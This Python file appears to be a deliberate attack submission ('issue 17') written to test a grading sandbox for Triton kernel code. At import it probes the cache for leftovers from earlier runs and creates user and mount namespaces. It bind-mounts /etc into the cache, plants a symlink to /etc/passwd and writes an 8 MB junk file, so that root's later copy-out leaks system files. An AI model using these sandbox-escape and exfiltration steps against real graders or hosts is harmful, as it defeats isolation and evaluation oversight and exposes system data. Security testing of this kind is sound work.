"""Attack (issue 17): make a user and mount namespace at import, to bind a folder over the Triton
cache that root copies out afterwards; leave junk and a link there for it to keep too.

Prints what its Triton cache already held (an identical submission graded earlier seeds it), and
whether a namespace could be made.
"""
import ctypes
import os
import subprocess
from pathlib import Path

CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
cache = Path(os.environ.get("TRITON_CACHE_DIR", "/nonexistent"))
held = sorted(str(p.relative_to(cache)) for p in cache.rglob("*") if p.is_file()) if cache.is_dir() else []
print("CACHE-AT-IMPORT:", " ".join(held) or "-", flush=True)
(cache / "KEY").mkdir(parents=True, exist_ok=True)


def _in_a_fork() -> int:
    """unshare in a single-threaded child (a process with threads may not make a user namespace)."""
    pid = os.fork()
    if pid == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        os._exit(0 if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 else 10 + min(ctypes.get_errno(), 100))
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


forked = _in_a_fork()
tool = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "mount", "--bind", "/etc", str(cache / "KEY")], capture_output=True)
made = forked == 0 or tool.returncode == 0
print("NAMESPACE-MADE" if made else "NAMESPACE-REFUSED", f"(fork: {forked}, unshare tool: {tool.returncode})", flush=True)
(cache / "KEY" / "k.cubin").write_bytes(b"compiled")
(cache / "junk.bin").write_bytes(b"x" * (8 << 20))
link = cache / "KEY" / "passwd.json"
if not link.is_symlink():
    link.symlink_to("/etc/passwd")


def triton_gelu(x):
    raise NotImplementedError("this submission only attacks the sandbox")
